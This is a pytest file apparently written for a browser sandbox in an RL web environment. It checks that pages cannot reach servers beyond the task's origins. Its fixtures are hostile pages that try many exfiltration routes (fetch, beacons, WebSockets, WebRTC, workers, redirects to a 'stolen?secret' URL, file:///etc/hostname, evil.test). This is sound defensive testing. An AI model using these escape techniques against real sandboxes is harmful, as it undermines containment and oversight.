"""The browser connects only to the task's own origins, whatever a page tries."""

from __future__ import annotations

import asyncio
import contextlib
import http.server
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from rllm_gym.envs.web.browser import BrowserPool, BrowserSession, SiteFault
from rllm_gym.envs.web.browser.network_policy import origin_of
from rllm_gym.envs.web.sites.http import Request, Response

pytestmark = pytest.mark.usefixtures("long_timeouts")


class Listener:
    """Another server on this machine, TCP and UDP on one port, that records every byte it receives."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        self.url = f"http://127.0.0.1:{self.port}"
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                peer, _ = self._tcp.accept()
                with peer:
                    peer.settimeout(120.0)
                    self.received.append(b"TCP")
                    with contextlib.suppress(OSError):
                        self.received[-1] = peer.recv(4096)
                        peer.sendall(
                            b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\n\r\nok"
                        )

    def _receive(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                data, sender = self._udp.recvfrom(4096)
                if sender is None:  # it was closed
                    return
                self.received.append(data or b"UDP")

    def close(self) -> None:
        for item in (self._tcp, self._udp):
            with contextlib.suppress(OSError):
                item.shutdown(socket.SHUT_RDWR)
            item.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


ESCAPES = """<!doctype html><title>escapes</title>
<link rel=dns-prefetch href="{url}"><link rel=preconnect href="{url}"><link rel=prefetch href="{url}/prefetch">
<link rel=prerender href="{url}/prerender"><link rel=modulepreload href="{url}/module">
<link rel=stylesheet href="{url}/style"><link rel=icon href="{url}/icon"><link rel=manifest href="{url}/manifest">
<style>@import url({url}/import); body {{background: url({url}/background)}}
@font-face {{font-family: x; src: url({url}/font)}} p {{font-family: x}}</style>
<script type=speculationrules>{{"prefetch": [{{"source": "list", "urls": ["{url}/speculation"]}}]}}</script>
<p>text <img src="{url}/image"><img src="/redirect"><iframe src="{url}/frame"></iframe><iframe src="/redirect"></iframe>
<object data="{url}/object"></object><embed src="{url}/embed"><video src="{url}/video"></video>
<script src="{url}/script"></script>
<iframe srcdoc="<img src={url}/srcdoc><script>{rtc}</script>"></iframe>
<iframe name=inside></iframe><iframe name=round></iframe>
<a id=ping href="#here" ping="{url}/ping">ping</a>
<form id=out action="{url}/form" method=post target=inside><input name=a></form>
<form id=around action="/redirect" method=post target=round></form>
<script>
const blob = text => URL.createObjectURL(new Blob([text]));
const tries = [
  () => fetch('{url}/fetch', {{mode: 'no-cors'}}), () => fetch('/redirect', {{mode: 'no-cors'}}),
  () => fetch('{url}/kept', {{mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}}),
  () => {{const x = new XMLHttpRequest(); x.open('GET', '{url}/xhr'); x.send()}},
  () => navigator.sendBeacon('{url}/beacon', 'x'), () => new EventSource('{url}/events'),
  () => new WebSocket('ws://127.0.0.1:{port}/'), () => new WebSocket('wss://localhost:{port}/'),
  () => new Worker(blob("fetch('{url}/worker', {{mode: 'no-cors'}}); new WebSocket('ws://127.0.0.1:{port}/')")),
  () => new SharedWorker(blob("fetch('{url}/shared', {{mode: 'no-cors'}})")),
  () => navigator.serviceWorker.register('/worker.js'), () => new WebTransport('https://127.0.0.1:{port}/'),
  () => {{{rtc}}}, () => window.open('{url}/popup'), () => window.open('/redirect'),
  () => out.submit(), () => around.submit(), () => ping.click(), () => import('{url}/import'),
  () => {{for (const host of ['[::1]', 'localhost', '2130706433', '127.1']) new Image().src = `http://${{host}}:{port}/`}},
  () => {{new Image().src = 'https://127.0.0.1:{port}/'; new Image().src = 'ftp://127.0.0.1:{port}/'}},
];
window.done = Promise.allSettled(tries.map(async attempt => attempt())).then(() => tries.length);
addEventListener('pagehide', () => {{navigator.sendBeacon('{url}/unload', 'x')}});
</script>"""

RTC = (
    "for (const url of ['stun:127.0.0.1:{port}', 'turn:127.0.0.1:{port}?transport=tcp'])"
    "{{const peer = new RTCPeerConnection({{iceServers: [{{urls: url, username: 'u', credential: 'p'}}]}});"
    "peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer))}}"
)


def escapes(listener: Listener) -> Any:
    rtc = RTC.format(port=listener.port)
    page = ESCAPES.format(url=listener.url, port=listener.port, rtc=rtc)

    def site(request: Request) -> Response:
        if request.path == "/redirect":
            return Response(status=307, headers={"location": f"{listener.url}/redirected"})
        if request.path == "/next":
            return Response(b"<title>next</title>")
        return Response(page.encode())

    return site


async def eventually(session: BrowserSession, script: str) -> None:
    while not await session.evaluate(script):
        pass


def test_no_byte_reaches_a_server_outside_the_task(pool: BrowserPool, listener: Listener) -> None:
    async def scenario() -> None:
        session = await pool.open(sites={"http://a.test": escapes(listener)})

        async def tried(*names: str) -> None:
            while not all(any(f"{listener.url}/{name}" in what for what in session.blocked) for name in names):
                await session.evaluate("1")

        await session.goto("http://a.test/")
        session.tabs.bring_to_front(session.pages[0])
        assert await session.evaluate("window.done", world="main") == 21
        await tried("fetch", "image", "frame", "form", "popup", "redirected", "worker", "shared", "srcdoc", "xhr")
        await session.evaluate(f"location.href = '{listener.url}/direct'")
        await tried("direct")
        await session.evaluate("location.href = '/next'")
        await eventually(session, "document.title == 'next'")
        await session.evaluate("location.href = '/redirect'")
        await eventually(session, "document.title == 'next'")
        while not any("not one of the task's sites" in note for note in session.tabs.take_notes()):
            await session.evaluate("1")
        assert await session.evaluate("document.title") == "next"
        assert f"CONNECT 127.0.0.1:{listener.port}" in session.blocked
        await session.close()

    asyncio.run(scenario())
    assert listener.received == []


def test_webrtc_is_also_disabled_in_the_browser(
    chromium: str, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Even with the page's constructor restored, the browser itself sends nothing."""
    monkeypatch.setattr("rllm_gym.envs.web.browser.context_pool._init_script", lambda: "0")

    async def scenario() -> None:
        with BrowserPool(chromium, prewarm=0) as pool:
            session = await pool.open(sites={"http://a.test": lambda request: Response(b"<p>x")})
            await session.goto("http://a.test/")
            gathered = (
                "new Promise(done => {const peer = new RTCPeerConnection({iceServers: "
                f"[{{urls: 'stun:127.0.0.1:{listener.port}'}}]}}); peer.createDataChannel('x');"
                "peer.onicegatheringstatechange = () => peer.iceGatheringState == 'complete' && done('gathered');"
                "peer.createOffer().then(offer => peer.setLocalDescription(offer))})"
            )
            assert await session.evaluate(gathered, world="main") == "gathered"
            await session.close()

    asyncio.run(scenario())
    assert listener.received == []


def test_only_the_tasks_own_server_and_port_are_reachable(pool: BrowserPool, listener: Listener) -> None:
    other = Listener()

    async def scenario() -> None:
        site = {"http://a.test": lambda request: Response(b"<p>x")}
        session = await pool.open(sites=site, origins=[listener.url])
        await session.goto("http://a.test/")
        assert await session.evaluate(f"fetch('{listener.url}/yes').then(answer => answer.text())") == "ok"
        assert "TypeError" in await session.evaluate(f"fetch('{other.url}/no').catch(String)")
        socket_error = (
            f"new Promise(done => {{new WebSocket('ws://127.0.0.1:{listener.port}/').onerror = () => done(1)}})"
        )
        await session.evaluate(socket_error)
        await session.close()
        neighbour = await pool.open(sites=site)
        await neighbour.goto("http://a.test/")
        assert "TypeError" in await neighbour.evaluate(f"fetch('{listener.url}/neighbour').catch(String)")
        await neighbour.close()

    asyncio.run(scenario())
    other.close()
    assert other.received == []
    assert listener.received[0].startswith(b"GET /yes HTTP/1.1\r\n")
    assert b"proxy" not in listener.received[0].lower()
    assert listener.received[1].startswith(b"GET / HTTP/1.1\r\n")
    assert len(listener.received) == 2


class RealServer(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        if self.path == "/away":
            self.send_response(302)
            self.send_header("Location", self.server.redirect_target)  # type: ignore[attr-defined]
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = b"<title>real</title><form method=post><input name=a value=%C3%BC></form>"
        self._answer(body)

    def do_POST(self) -> None:
        self._answer(b"<title>got " + self.rfile.read(int(self.headers["Content-Length"])) + b"</title>")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *arguments: Any) -> None:
        pass


def test_a_real_server_works_and_cannot_redirect_elsewhere(pool: BrowserPool, listener: Listener) -> None:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), RealServer)
    server.redirect_target = f"{listener.url}/stolen?secret=1"  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}"

    async def scenario() -> None:
        session = await pool.open(origins=[url])
        await session.goto(url)
        await session.evaluate("document.forms[0].submit()")
        await eventually(session, "document.title.startsWith('got a=')")
        await session.evaluate("location.href = '/away'")
        while f"GET {listener.url}/stolen?secret=1" not in session.blocked:
            await session.evaluate("1")
        await session.close()

    try:
        asyncio.run(scenario())
    finally:
        server.shutdown()
        server.server_close()
    assert listener.received == []


def test_a_start_page_that_cannot_be_reached_is_reported(pool: BrowserPool) -> None:
    async def scenario() -> None:
        session = await pool.open(origins=["https://127.0.0.1:1"])
        with pytest.raises(SiteFault, match=r"https://127.0.0.1:1/ cannot be opened"):
            await session.goto("https://127.0.0.1:1/")
        await session.close()

    asyncio.run(scenario())


def test_pages_cannot_open_other_url_schemes(pool: BrowserPool) -> None:
    urls = ["file:///etc/hostname", "view-source:http://a.test/", "chrome://version", "data:text/html,<p>data"]
    script = "".join(f"open('{url}');" for url in urls) + "".join(f"location.href = '{url}';" for url in urls)
    pages = {
        "/": f"<title>a</title><script>{script}</script><a id=away href='file:///etc/hostname'>file</a>",
        "/refresh": "<title>refresh</title><meta http-equiv=refresh content='0; url=file:///etc/hostname'>",
        "/blob": "<title>blob</title><p>x",
    }

    def site(request: Request) -> Response:
        if request.path == "/redirect":
            return Response(status=302, headers={"location": "file:///etc/hostname"})
        return Response(pages[request.path].encode())

    async def scenario() -> None:
        session = await pool.open(sites={"http://a.test": site})
        await session.goto("http://a.test/")
        await session.evaluate("away.click()", world="main")
        assert await session.evaluate("document.title") == "a"
        await session.goto("http://a.test/refresh")
        assert await session.evaluate("document.title") == "refresh"
        with pytest.raises(SiteFault):
            await session.goto("http://a.test/redirect")
        await session.goto("http://a.test/blob")
        open_blob = "location.href = URL.createObjectURL(new Blob(['<p>blob'], {type: 'text/html'}))"
        for _ in range(2):
            await session.evaluate(open_blob, world="main")
            await eventually(session, "document.title == 'blob' || location.href == 'about:blank'")
        assert all(page.url.startswith(("http://a.test/", "about:")) for page in session.pages)
        await session.close()

    asyncio.run(scenario())


def test_other_users_of_this_machine_cannot_reach_a_site(pool: BrowserPool, monkeypatch: pytest.MonkeyPatch) -> None:
    async def ask(port: int) -> bytes:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n")
        answer = await reader.read(12)
        writer.close()
        return answer

    async def scenario() -> None:
        session = await pool.open(sites={"http://a.test": lambda request: Response(b"x")})
        await session.goto("http://a.test/")
        port = session._context.proxy.port
        assert await ask(port) == b"HTTP/1.1 200"
        monkeypatch.setattr("rllm_gym.envs.web.browser.socket_owner.os.geteuid", lambda: 12345)
        with pytest.raises((ConnectionError, AssertionError)):
            assert await ask(port)
        await session.close()
        with pytest.raises(ConnectionError):
            await ask(port)

    asyncio.run(scenario())


def test_origins_are_normalized_as_in_the_browser() -> None:
    for url, origin in (
        ("HTTP://Shop.Test:80/x", "http://shop.test"),
        ("https://a.test:443", "https://a.test"),
        ("https://a.test:8443/", "https://a.test:8443"),
        ("http://[::1]:8000/", "http://[::1]:8000"),
        ("http://käse.test/", "http://xn--kse-qla.test"),
    ):
        assert origin_of(url) == origin, url


FLOODS = (
    "fetch('http://evil.test/' + i)",
    "fetch('/' + i).catch(() => 0)",
    "{const x = new XMLHttpRequest(); x.open('GET', '/' + i); x.send()}",
    "console.log(i)",
    "setTimeout(() => undefined_name)",
)


def test_floods_of_requests_and_messages_do_not_stall_a_neighbour(
    pool: BrowserPool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("rllm_gym.envs.web.browser.load_state.REQUESTS_S", 0.5)  # the flood never ends

    async def scenario(asked: str) -> None:
        flood = f"<p>x<script>setInterval(() => {{for (let i = 0; i < 50; i++) {asked}}}, 5)</script>"
        hostile = await pool.open(sites={"http://a.test": lambda request: Response(flood.encode())})
        await hostile.goto("http://a.test/")
        quiet = await pool.open(sites={"http://b.test": lambda request: Response(b"<title>b</title>")})
        await quiet.goto("http://b.test/")
        assert await quiet.evaluate("document.title") == "b", asked
        assert len(hostile.blocked) <= 100, asked
        await quiet.close()
        await hostile.close()

    for asked in FLOODS:
        asyncio.run(scenario(asked))


def test_pages_can_load_their_own_resources(pool: BrowserPool) -> None:
    many = "Promise.all([...Array(90).keys()].map(i => fetch('/' + i).then(answer => answer.text())))"

    async def scenario() -> None:
        session = await pool.open(sites={"http://a.test": lambda request: Response(request.path.encode())})
        await session.goto("http://a.test/")
        for _ in range(2):
            answers = await session.evaluate(f"{many}.then(all => all.join(''))", world="main")
            assert answers == "".join(f"/{number}" for number in range(90))
        asking = (
            "new Promise(done => {const x = new XMLHttpRequest(); x.open('POST', '/x');"
            " x.onload = () => done(x.response); x.send('b')})"
        )
        assert await session.evaluate(asking, world="main") == "/x"
        await session.close()

    asyncio.run(scenario())
